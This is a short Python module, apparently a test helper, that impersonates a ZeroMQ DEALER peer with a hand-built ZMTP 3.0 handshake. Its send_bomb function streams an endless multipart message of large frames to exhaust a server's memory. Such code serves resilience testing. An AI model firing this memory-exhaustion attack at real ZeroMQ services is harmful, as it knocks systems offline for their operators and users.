"""What a hostile peer says in ZeroMQ's own protocol (ZMTP 3.0, NULL), byte by byte: that takes no memory of its own."""

import socket
import struct
from contextlib import suppress

GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x00" + b"NULL".ljust(20, b"\0") + bytes(32)
READY = b"\x05READY\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
MORE, LONG, COMMAND = 0x01, 0x02, 0x04


def greet(address: str) -> socket.socket:
    """Return a connection to tcp://HOST:PORT that has shaken hands as a DEALER; OSError where nobody would."""
    host, port = address.removeprefix("tcp://").split(":")
    peer = socket.create_connection((host, int(port)), timeout=10.0)
    peer.sendall(GREETING + bytes([COMMAND, len(READY)]) + READY)
    answer = b""
    while len(answer) < len(GREETING) + 2 or len(answer) < len(GREETING) + 2 + answer[len(GREETING) + 1]:
        piece = peer.recv(4096)
        if not piece:
            raise ConnectionError(f"{address}: expected a READY, received the end of the connection")
        answer += piece
    return peer


def send_bomb(address: str, *, frame_bytes: int, total_bytes: int) -> int:
    """Send one message of frames without end, until so much is sent or nobody listens; return how many bytes went."""
    frame = struct.pack(">BQ", MORE | LONG, frame_bytes) + bytes(frame_bytes)
    sent = 0
    with suppress(OSError), greet(address) as peer:
        while sent < total_bytes:
            peer.sendall(frame)
            sent += len(frame)
    return sent
